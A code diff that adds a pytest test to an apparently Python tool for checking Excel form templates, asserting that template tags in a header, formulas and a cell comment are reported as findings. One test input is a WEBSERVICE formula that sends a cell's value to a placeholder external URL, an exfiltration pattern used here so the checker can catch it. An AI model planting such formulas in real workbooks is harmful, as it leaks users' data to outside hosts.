@@ -9,6 +9,7 @@ from typing import TYPE_CHECKING, Any
 import pytest
 from clerk_forms import DAYS, HEADS, NAMES, TOKEN, VALUES, read, returned, sent, unit_form
 from openpyxl import Workbook, load_workbook
+from openpyxl.comments import Comment
 from openpyxl.drawing.image import Image
 from openpyxl.workbook.defined_name import DefinedName
 from PIL import Image as Picture
@@ -438,3 +439,19 @@ def test_a_name_that_points_beyond_the_sheet_is_a_finding(where: str) -> None:
     with pytest.raises(InputError) as caught:
         form.layout_of(out.getvalue(), "表.xlsx")
     assert "没有指着一个单元格" in caught.value.findings[0].message
+
+
+def test_tags_that_would_go_out_as_typed_are_findings() -> None:
+    book = load_workbook(io.BytesIO(unit_form()))
+    sheet = book.worksheets[0]
+    sheet.oddHeader.center.text = "{{ 简称 }}"
+    sheet["H1"] = '="{{ 简称 }}"'
+    sheet["H2"] = '=WEBSERVICE("https://a.example/?"&B5)'
+    sheet["H3"] = "=SUM(B5:C5)"
+    sheet["H3"].comment = Comment("{{ 书记 }}", "何二")
+    saved = io.BytesIO()
+    book.save(saved)
+    with pytest.raises(InputError) as caught:
+        form.layout_of(saved.getvalue(), "日报.xlsx")
+    places = {one.place.where.partition(" › ")[2] for one in caught.value.findings}
+    assert places == {"页眉页脚", "H1", "H2", "H3"}
